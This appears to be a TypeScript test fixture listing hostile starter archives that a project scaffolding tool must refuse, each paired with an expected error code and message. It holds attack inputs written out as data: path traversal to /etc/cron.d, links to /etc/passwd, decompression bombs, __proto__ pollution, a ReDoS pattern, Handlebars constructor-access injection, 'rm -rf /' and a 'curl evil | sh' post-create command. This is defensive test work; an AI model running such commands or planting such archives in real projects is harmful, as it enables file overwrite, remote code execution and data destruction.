import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { StarterProblemCode } from '../../src/index.ts';
import { manifest } from '../helpers.ts';
import { type Entry, pax, tarOf } from './tar.ts';

/** A packed starter that means harm, or is broken in a way that does harm, and how it has to be refused. */
export interface Hostile {
  readonly what: string;
  readonly archive: () => Buffer;
  readonly code: 'STARTER_INVALID' | 'STARTER_TOO_LARGE' | 'STARTER_API_VERSION' | 'STARTER_FETCH_FAILED';
  /** What is wrong, where the code alone does not tell. */
  readonly problem?: StarterProblemCode;
  readonly says: RegExp;
}

const description = (changes: object = {}): Entry => ({
  path: 'package/starter.json',
  content: JSON.stringify({ ...manifest, ...changes }),
});
const harmless: Entry = { path: 'package/template/Dockerfile', content: 'FROM x' };
const starter = (...entries: readonly Entry[]) => tarOf([description(), harmless, ...entries]);

const withEntry = (what: string, problem: StarterProblemCode, says: RegExp, ...entries: readonly Entry[]): Hostile => ({
  what,
  archive: () => starter(...entries),
  code: 'STARTER_INVALID',
  problem,
  says,
});
const withPath = (path: string, problem: StarterProblemCode, says: RegExp) =>
  withEntry(`the path ${JSON.stringify(path)}`, problem, says, { path, content: 'x' });
const withFiles = (what: string, problem: StarterProblemCode, says: RegExp, ...names: readonly string[]) =>
  withEntry(what, problem, says, ...names.map((name) => ({ path: `package/template/${name}`, content: 'x' })));
const withTemplate = (what: string, content: string | Uint8Array, problem: StarterProblemCode, says: RegExp) =>
  withEntry(what, problem, says, { path: 'package/template/a.txt.hbs', content });
const withManifest = (what: string, changes: object | string, problem: StarterProblemCode, says: RegExp): Hostile => ({
  what,
  archive: () => {
    const content = typeof changes === 'string' ? changes : JSON.stringify({ ...manifest, ...changes });
    return tarOf([{ path: 'package/starter.json', content }, harmless]);
  },
  code: 'STARTER_INVALID',
  problem,
  says,
});
const variable = { name: 'x', prompt: 'X', default: '1' };
const offered = /templates know/;

export const hostile: readonly Hostile[] = [
  withPath('/etc/cron.d/evil', 'path-absolute', /absolute/),
  withPath('../evil', 'path-outside', /leaves the folder/),
  withPath('package/../../evil', 'path-outside', /leaves the folder/),
  withPath('package/template/../../../evil', 'path-outside', /leaves the folder/),
  withPath('package/template/sub/../../../../evil', 'path-outside', /leaves the folder/),
  withPath('C:/evil', 'path-absolute', /absolute/),
  withPath('package/template/C:evil', 'name-not-portable', /Windows does not allow/),
  withPath('package\\..\\..\\evil', 'name-not-portable', /Windows does not allow|leaves/),
  withPath('package/template/\u0001', 'name-not-portable', /Windows does not allow/),
  withEntry(
    'a path that only a pax header has',
    'path-outside',
    /leaves the folder/,
    pax('package/template/../../../evil'),
    harmless,
  ),
  withEntry(
    'a path that only a GNU header has',
    'path-outside',
    /leaves the folder/,
    { path: '././@LongLink', type: 'L', content: `package/template/${'../'.repeat(9)}evil\0` },
    harmless,
  ),
  withEntry('a link to a file of the system', 'link', /a link/, {
    path: 'package/template/l',
    type: '2',
    link: '/etc/passwd',
  }),
  withEntry('a link out of the folder', 'link', /a link/, {
    path: 'package/template/l',
    type: '2',
    link: '../../../..',
  }),
  withEntry('a hard link', 'link', /a link/, { path: 'package/template/l', type: '1', link: '/etc/passwd' }),
  withEntry(
    'a file behind a link to a folder',
    'link',
    /a link/,
    { path: 'package/template/d', type: '2', link: '/tmp' },
    { path: 'package/template/d/evil', content: 'x' },
  ),
  withEntry('a link in the place of its template', 'link', /a link/, {
    path: 'package/template',
    type: '2',
    link: '/etc',
  }),
  withEntry('a character device', 'not-a-file', /a device/, { path: 'package/template/d', type: '3' }),
  withEntry('a block device', 'not-a-file', /a device/, { path: 'package/template/d', type: '4' }),
  withEntry('a pipe', 'not-a-file', /a device/, { path: 'package/template/d', type: '6' }),
  withEntry('an entry of an unknown kind', 'kind-unknown', /of the kind/, { path: 'package/template/d', type: 'S' }),
  withFiles('a device of Windows', 'name-not-portable', /device on Windows/, 'con'),
  withFiles('a device of Windows with an ending', 'name-not-portable', /device on Windows/, 'aux.json'),
  withFiles('a name that ends in a dot', 'name-not-portable', /drops the dot/, 'name.'),
  withFiles('a name that ends in a blank', 'name-not-portable', /drops the dot or blank/, 'name '),
  withFiles('a hook of git', 'git-folder', /git's own folder/, '.git/hooks/post-commit'),
  withFiles('a hook of git in capitals', 'git-folder', /git's own folder/, '.GIT/hooks/post-commit'),
  withFiles("the short name of git's folder", 'git-folder', /git's own folder/, 'git~1/config'),
  withEntry(
    'a name of 300 bytes',
    'name-too-long',
    /longer than 255/,
    pax(`package/template/${'n'.repeat(300)}`),
    harmless,
  ),
  withFiles('names that only differ in case', 'name-collision', /same file where case/, 'Readme.md', 'README.md'),
  withFiles('folders that only differ in case', 'name-collision', /same folder where case/, 'src/a', 'SRC/b'),
  withFiles(
    'names that only differ in their normalisation',
    'name-collision',
    /same file/,
    'é'.normalize('NFC'),
    'é'.normalize('NFD'),
  ),
  withFiles('a file that is a folder, too', 'name-collision', /needs a folder there/, 'a', 'a.hbs/b', 'a/b'),
  withFiles('a file twice, once by its other name', 'name-collision', /same file/, '_gitignore', '.gitignore'),
  withFiles('a file of ours in the template', 'name-collision', /same file/, 'planqk-service.json'),
  {
    what: '100,000 files',
    archive: () => starter(...Array<Entry>(100_000).fill({ path: 'package/template/f' })),
    code: 'STARTER_TOO_LARGE',
    says: /more than 2,000 files/,
  },
  {
    what: 'a file of 10 GB, as its header says',
    archive: () => starter({ path: 'package/template/big', size: 10_000_000_000 }),
    code: 'STARTER_TOO_LARGE',
    says: /10,000,\d+,\d+ bytes or more, and 20,000,000 bytes are allowed/,
  },
  {
    what: 'zeros that shrink to nothing',
    archive: () => starter({ path: 'package/template/zeros', content: Buffer.alloc(19_000_000) }),
    code: 'STARTER_FETCH_FAILED',
    says: /decompression ratio/,
  },
  {
    what: 'zeros behind the end of the archive',
    archive: () => Buffer.concat([starter(), gzipSync(Buffer.alloc(50_000_000))]),
    code: 'STARTER_FETCH_FAILED',
    says: /decompression ratio|no archive/,
  },
  {
    what: 'folders in folders',
    archive: () => starter(pax(`package/template/${'d/'.repeat(200)}f`), harmless),
    code: 'STARTER_TOO_LARGE',
    says: /folders deep/,
  },
  {
    what: 'an archive that is cut off',
    archive: () => starter().subarray(0, 60),
    code: 'STARTER_FETCH_FAILED',
    says: /no archive that can be read/,
  },
  {
    what: 'something else than an archive',
    archive: () => Buffer.from('<html>Please log in</html>'.repeat(100)),
    code: 'STARTER_FETCH_FAILED',
    says: /no archive that can be read/,
  },
  {
    what: 'a starter.json of 1 MB',
    archive: () => tarOf([description({ title: randomBytes(500_000).toString('hex') }), harmless]),
    code: 'STARTER_TOO_LARGE',
    says: /starter.json has/,
  },
  {
    what: 'the format of a future version',
    archive: () => tarOf([description({ apiVersion: 'planqk-service/starter/v2', brandNew: true }), harmless]),
    code: 'STARTER_API_VERSION',
    says: /format planqk-service\/starter\/v2/,
  },
  withManifest('no description that is JSON', '{"a":', 'description-not-json', /not JSON/),
  withManifest(
    'a description nested without end',
    `${'['.repeat(100_000)}`,
    'description-not-json',
    /not JSON|must be object/,
  ),
  withManifest(
    'a prototype in its description',
    '{"__proto__": {"id": "x"}}',
    'description-invalid',
    /unknown field "__proto__"|required/,
  ),
  withManifest('an id that is a path', { id: '../../evil' }, 'description-invalid', /\/id/),
  withManifest(
    'types that lie outside',
    { types: { lang: 'go', output: '../../evil.go' } },
    'description-invalid',
    /\/types\/output/,
  ),
  withManifest('a command for a shell', { postCreate: ['curl evil | sh'] }, 'description-invalid', /\/postCreate/),
  withManifest(
    'a variable called __proto__',
    { variables: [{ ...variable, name: '__proto__' }] },
    'description-invalid',
    /\/variables\/0\/name/,
  ),
  withManifest('a variable twice', { variables: [variable, variable] }, 'variable-twice', /twice/),
  withManifest(
    'a pattern that never ends',
    { variables: [{ ...variable, default: `${'a'.repeat(50)}!`, pattern: '(a+)+' }] },
    'pattern-endless',
    /cannot be matched/,
  ),
  withManifest(
    'a pattern that is none',
    { variables: [{ ...variable, pattern: '(' }] },
    'pattern-invalid',
    /pattern of "x"/,
  ),
  withManifest(
    'a default that brings lines along',
    { variables: [{ ...variable, default: 'a\nRUN evil' }] },
    'variable-default',
    /one line/,
  ),
  withTemplate('a template that loops', '{{#each name}}x{{/each}}', 'template-unsupported', offered),
  withTemplate(
    'a template that reads a prototype',
    '{{name.constructor.constructor}}',
    'template-variable',
    /no variable/,
  ),
  withTemplate('a template that reads __proto__', '{{__proto__}}', 'template-variable', /no variable/),
  withTemplate(
    'a template that looks up what it likes',
    '{{lookup this "constructor"}}',
    'template-unsupported',
    offered,
  ),
  withTemplate('a helper that does not exist', '{{shell "rm -rf /"}}', 'template-unsupported', offered),
  withTemplate('a partial', '{{> evil}}', 'template-unsupported', offered),
  withTemplate('a decorator', '{{* evil}}', 'template-unsupported', offered),
  withTemplate('a path out of its context', '{{../process}}', 'template-unsupported', offered),
  withTemplate('private data of the engine', '{{@root.constructor}}', 'template-unsupported', offered),
  withTemplate('a variable that nobody asks for', '{{var.token}}', 'template-variable', /no variable/),
  withTemplate('a template that is never closed', '{{#if name}}', 'template-syntax', /cannot be rendered/),
  withTemplate('conditions nested without end', '{{#if gpu}}'.repeat(20_000), 'template-too-many-tags', /20000 tags/),
  withTemplate('a template that is no text', new Uint8Array([0xff, 0xfe]), 'template-not-text', /UTF-8/),
  withTemplate('a template of 2 MB', '{{name}}'.repeat(250_000), 'template-too-large', /more than 1000000 bytes/),
];
